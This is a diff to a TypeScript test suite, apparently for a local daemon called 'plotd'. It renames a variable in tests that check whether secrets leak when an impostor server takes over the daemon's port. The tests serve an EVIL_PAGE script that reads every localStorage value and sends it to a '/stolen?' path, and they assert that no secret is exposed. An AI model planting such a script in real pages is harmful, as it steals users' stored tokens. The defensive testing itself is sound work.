@@ -21,7 +21,7 @@ import { until } from '../support/until.ts'
  */
 
 interface Impostor {
-  readonly heard: () => string
+  readonly received: () => string
   close(): Promise<void>
 }
 
@@ -29,7 +29,7 @@ const EVIL_PAGE =
   "<script>for (const key of Object.keys(localStorage)) fetch('/stolen?' + encodeURIComponent(localStorage[key]))</script>"
 
 async function impostor(port: number): Promise<Impostor> {
-  let heard = ''
+  let received = ''
   const server: Server = createServer((request, response) => {
     if (request.url === '/') return void response.setHeader('content-type', 'text/html').end(EVIL_PAGE)
     const answer = {
@@ -43,11 +43,11 @@ async function impostor(port: number): Promise<Impostor> {
       .setHeader('content-type', 'application/json')
       .end(JSON.stringify(request.url === '/rpc' ? [answer] : answer))
   })
-  server.on('connection', (socket) => socket.on('data', (chunk: Buffer) => (heard += chunk.toString('latin1'))))
+  server.on('connection', (socket) => socket.on('data', (chunk: Buffer) => (received += chunk.toString('latin1'))))
   const sockets = new WebSocketServer({ server, handleProtocols: () => 'plotd' })
   await new Promise<void>((listening, failed) => server.once('error', failed).listen(port, '127.0.0.1', listening))
   return {
-    heard: () => decodeURIComponent(heard.replaceAll(/%(?![0-9a-f]{2})/gi, '%25')),
+    received: () => decodeURIComponent(received.replaceAll(/%(?![0-9a-f]{2})/gi, '%25')),
     close: async () => {
       for (const client of sockets.clients) client.terminate()
       server.closeAllConnections()
@@ -100,12 +100,12 @@ async function takeOver(): Promise<Impostor> {
 }
 
 /** Nothing that was heard is accepted by the daemon when it is back. */
-async function expectNoSecret(heard: string): Promise<void> {
-  for (const secret of secretsOfFolder()) expect(heard).not.toContain(secret)
+async function expectNoSecret(received: string): Promise<void> {
+  for (const secret of secretsOfFolder()) expect(received).not.toContain(secret)
   await taker?.close()
   taker = undefined
   daemon = await daemonProcess(settings())
-  const words = new Set(heard.match(/[\w-]{16,}/g))
+  const words = new Set(received.match(/[\w-]{16,}/g))
   for (const word of words) {
     const bearer = await fetch(`${daemon.url}/session`, { headers: { authorization: `Bearer ${word}` } })
     const headers = { 'content-type': 'application/json' }
@@ -179,12 +179,12 @@ describe('an impostor at the daemon’s port', () => {
       }
       const live = await connect({ state })
       await live.subscribe(() => {})
-      const { heard } = await takeOver()
+      const { received: messages } = await takeOver()
       await Promise.all([commandLine(), typeScript(), hasPython ? python() : undefined])
       // The client that was connected dials again by itself.
-      const greeted = heard().split('GET /hello').length
-      await until(() => heard().split('GET /hello').length > greeted + 1)
-      await expectNoSecret(heard())
+      const greeted = messages().split('GET /hello').length
+      await until(() => messages().split('GET /hello').length > greeted + 1)
+      await expectNoSecret(messages())
       expect((await live.call('job.list', {})).total).toBe(socket === 'without' && hasPython ? 1 : 0)
       live.close()
     },
@@ -205,11 +205,11 @@ describe('an impostor at the daemon’s port', () => {
       await page.getByRole('heading', { name: 'Queue' }).waitFor()
       expect(JSON.stringify(await page.evaluate('({...localStorage})'))).not.toContain(named)
 
-      const { heard } = await takeOver()
-      await until(() => heard().includes('plotd.token.')) // the open page dials again by itself
+      const { received: messages } = await takeOver()
+      await until(() => messages().includes('plotd.token.')) // the open page dials again by itself
       await page.reload()
-      await until(() => heard().includes('/stolen?'))
-      await expectNoSecret(heard())
+      await until(() => messages().includes('/stolen?'))
+      await expectNoSecret(messages())
     })
   }
   if (hasBrowser && isLong) describe('and the page in a browser', browserTests)
